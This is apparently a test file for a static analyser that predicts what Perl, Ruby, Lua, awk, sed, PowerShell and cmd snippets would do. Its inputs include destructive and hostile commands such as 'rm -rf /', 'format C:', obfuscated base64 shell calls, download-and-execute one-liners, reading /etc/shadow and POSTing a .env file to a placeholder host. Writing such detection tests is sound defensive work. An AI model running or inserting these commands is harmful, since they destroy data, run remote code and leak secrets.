/** Languages without a grammar: what their programs would do, that harmless ones do nothing, and what is said to be unread. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { deedsOf, outputOf, unreadOf } from "../../../../../test/lib/code-deeds.ts";
import type { Language } from "../code.ts";

const testsOf = (language: Language) => ({
  does: (code: string, ...wanted: readonly string[]) =>
    test(`${language}: ${code.split("\n")[0]?.slice(0, 70)}`, () => {
      assert.deepEqual(deedsOf(language, code), wanted);
    }),
  harmless: (code: string) =>
    test(`${language} does nothing, and nothing is unread: ${code.split("\n")[0]?.slice(0, 60)}`, () => {
      assert.deepEqual([deedsOf(language, code), unreadOf(language, code)], [[], []]);
    }),
});

const base64 = (text: string): string => Buffer.from(text).toString("base64");

const perl = testsOf("perl");
perl.does('system("rm -rf /");', "shell rm -rf /");
perl.does('system "rm", "-rf", "/x"', "run rm -rf /x");
perl.does('my $c = "rm "; $c .= "-rf /"; system $c;', "shell rm -rf /");
perl.does('my $d = "/x"; system("rm -rf $d $ENV{HOME}");', "shell rm -rf /x /home/dev");
perl.does("`id`; qx{ls}; qx/whoami/", "shell id", "shell ls", "shell whoami");
perl.does('unlink "/a", "/b"; unlink glob("*.o");', "delete /a", "delete /b", "delete *.o (glob)");
perl.does('use File::Path; rmtree("/x");', "delete /x (whole)");
perl.does('open(F, "> /x"); open(my $g, ">>", "/y"); open(H, "| sh");', "overwrite /x", "write /y", "shell sh");
perl.does("eval \"system('id')\"; eval { unlink '/x' };", "shell id", "perhaps delete /x");
perl.does(`use MIME::Base64; eval decode_base64("${base64('system("id")')}");`, "shell id");
perl.does('eval pack("H*", "73797374656d2822696422 29".x);', "code ?");
perl.does('s/.*/system("id")/e;', "shell id");
perl.does('unlink "/x" if $y;', "perhaps delete /x");
perl.does('if ($x) { unlink "/a" } else { unlink "/b" }', "perhaps delete /a", "perhaps delete /b");
perl.does('use LWP::Simple; eval get("http://example.org/x");', "GET http://example.org/x", "code ? from the network");
perl.does("print <<A;\nrm -rf /\nA\nunlink '/x';", "delete /x");
perl.harmless('print "rm -rf /";');
perl.harmless("s/foo/bar/g; print if /rm -rf/;");
perl.harmless("$x{$_}++; END { print map { qq($_: $x{$_}\\n) } sort keys %x }");
perl.harmless("# system('id')\nprint join(',', map { $_ * 2 } grep { $_ > 1 } @ARGV), q(unlink '/x'), \"\\n\";");

const ruby = testsOf("ruby");
ruby.does('system("rm -rf /")', "shell rm -rf /");
ruby.does("require 'fileutils'; FileUtils.rm_rf('/x')", "delete /x (whole)");
ruby.does('`ls #{ENV["HOME"]}`; %x(id)', "shell ls /home/dev", "shell id");
ruby.does('Kernel.send(:system, "id"); Object.send("sys" + "tem", "ls")', "shell id", "shell ls");
ruby.does("eval(\"system('id')\")", "shell id");
ruby.does(`require 'base64'; eval(Base64.decode64("${base64('system("id")')}"))`, "shell id");
ruby.does(`eval("${base64('system("id")')}".unpack1("m"))`, "shell id");
ruby.does("Dir.glob('*.log').each { |f| File.delete(f) }", "perhaps delete *.log (glob)");
ruby.does('%w[a b].each do |x|\n  system("rm #{x}")\nend', "shell rm a", "shell rm b");
ruby.does("if x\n  File.unlink '/a'\nelse\n  File.unlink '/b'\nend", "perhaps delete /a", "perhaps delete /b");
ruby.does("require 'open-uri'; eval(URI.open('http://example.org/x').read)", "GET http://example.org/x", "code ? from the network");
ruby.does("File.write('/x', 'y')", "overwrite /x");
ruby.harmless('puts "rm -rf /"');
ruby.harmless("puts [1, 2].map { |x| x * 2 }.sum; puts STDIN.read.lines.map(&:strip).reject(&:empty?).join(',')");
ruby.harmless("def a(b)\n  b.to_s if b > 1\nend\nputs a(2)");

const lua = testsOf("lua");
lua.does('os.execute("rm -rf /")', "shell rm -rf /");
lua.does('local c = "rm" .. " -rf /"; os.execute(c)', "shell rm -rf /");
lua.does('_G["os"]["exe" .. "cute"]("id"); os.remove "/x"; os.execute [[ls]]', "shell id", "delete /x", "shell ls");
lua.does("load(\"os.remove('/x')\")()", "delete /x");
lua.does('local f = io.open("/x", "w"); f:write("hi")', "overwrite /x", "write /x");
lua.does(
  "if x then os.remove('/a') elseif y then os.remove('/b') end os.remove('/c')",
  "perhaps delete /a",
  "perhaps delete /b",
  "delete /c",
);
lua.harmless('print("rm -rf /") -- os.remove("/x")');
lua.harmless("for i = 1, 10 do print(i) end local t = {1, 2, x = 3} for k, v in pairs(t) do print(k, v) end");

const awk = testsOf("awk");
awk.does('BEGIN { system("rm -rf /") }', "shell rm -rf /");
awk.does('BEGIN { c = "rm -rf "; system(c "/x") }', "shell rm -rf /x");
awk.does('{ system("rm " $1) }', "perhaps shell rm ?");
awk.does('{ print $0 | "sh" }', "perhaps shell sh");
awk.does('BEGIN { "id" | getline x; while (("ls" | getline y) > 0) n++ }', "shell id", "shell ls");
awk.does('{ print "a" > "/x"; print "b" >> "/y" }', "perhaps overwrite /x", "perhaps write /y");
awk.harmless("{ print $1 }");
awk.harmless('$3 > 5 && $1 ~ /^rm -rf/ { s += $2 } END { printf "%d %s\\n", s, "rm -rf /" }');
awk.harmless('BEGIN { FS = ":" } { print NR, sum / NR > "/dev/stderr" }');

const sed = testsOf("sed");
sed.does("1e rm -rf /", "perhaps shell rm -rf /");
sed.does("s/.*/rm -rf \\/x/e", "perhaps shell rm -rf /x");
sed.does("s/x/y/e", "perhaps shell ?");
sed.does("/a/,/b/w out.txt", "perhaps overwrite out.txt");
sed.does("s/x/y/gw out.txt", "perhaps overwrite out.txt");
sed.does("r /etc/shadow", "perhaps read /etc/shadow");
sed.harmless("s/a/b/g; 1,5d; /x/p; $!N; y/abc/xyz/; :a; ta; /e rm/{s|/a|/b|;d}");
sed.harmless("s/[/]e/w/; s,a,e b,; a\\ e rm -rf /");

test("a command that sed does not have ends the reading", () => {
  assert.deepEqual(unreadOf("sed", "s/a/b/; Z; e rm -rf /"), ["a syntax that is not understood"]);
});

const powershell = testsOf("powershell");
powershell.does("Remove-Item -Recurse -Force C:\\x", "delete C:\\x (whole)");
powershell.does("rm -r $HOME/x; del a.txt, b.txt", "delete /home/dev/x (whole)", "delete a.txt", "delete b.txt");
powershell.does("iex (iwr http://example.org/x)", "GET http://example.org/x", "code ? from the network");
powershell.does("iwr http://example.org/x | iex", "GET http://example.org/x", "code ? from the network");
powershell.does(
  "IEX (New-Object Net.WebClient).DownloadString('http://example.org/x')",
  "GET http://example.org/x",
  "code ? from the network",
);
powershell.does(`powershell -enc ${Buffer.from("rm C:\\x", "utf16le").toString("base64")}`, "delete C:\\x");
powershell.does('$x = "rm " + "C:\\x"; iex $x', "delete C:\\x");
powershell.does("Set-ExecutionPolicy Bypass; Stop-Computer", "run Set-ExecutionPolicy Bypass", "run Stop-Computer");
powershell.does("Clear-Content a.txt; 'x' | Set-Content b.txt", "overwrite a.txt", "overwrite b.txt");
powershell.does("if (Test-Path a) { Remove-Item a }", "perhaps delete a");
powershell.does("Get-ChildItem *.log | Remove-Item", "delete *.log (glob)");
powershell.does("git push -f; & $cmd x", "run git push -f", "run ? x");
powershell.does(
  "iwr http://example.org -Method Post -InFile .env -OutFile y",
  "POST http://example.org carrying file",
  "overwrite y from the network",
);
powershell.harmless("Write-Host 'Remove-Item -Recurse C:\\'; Get-ChildItem . | Where-Object { $_.Name -match 'x' } | Select-Object Name");
powershell.harmless("Remove-Item x -WhatIf; # Remove-Item y");

const cmd = testsOf("cmd");
cmd.does('del /s /q C:\\x & rd /s /q "C:\\y z" && echo del /s', "delete C:\\x (whole)", "delete C:\\y z (whole)");
cmd.does("if exist a del a", "perhaps delete a");
cmd.does("for %%i in (*.log) do del %%i", "perhaps delete ?");
cmd.does("set D=C:\\w\nrd /s /q %D%", "delete C:\\w (whole)");
cmd.does("format C: /y & reg delete HKLM\\x /f", "run format C: /y", "run reg delete HKLM\\x /f");
cmd.does('cmd /c "del q" > out.txt', "overwrite out.txt", "delete q");
cmd.harmless("@echo off\nrem del /s C:\\\n:: del x\necho del /s /q C:\\\ncd x && dir /s");

test("what a small program prints is known where all of it is", () => {
  assert.equal(outputOf("perl", 'print "rm -rf /";'), "rm -rf /");
  assert.equal(outputOf("ruby", 'puts "rm -rf /"'), "rm -rf /\n");
  assert.equal(outputOf("lua", 'print("rm -rf /")'), "rm -rf /\n");
  assert.equal(outputOf("perl", "print if /x/;"), undefined);
  assert.equal(outputOf("perl", 'print "a" for 1..3;'), undefined);
});
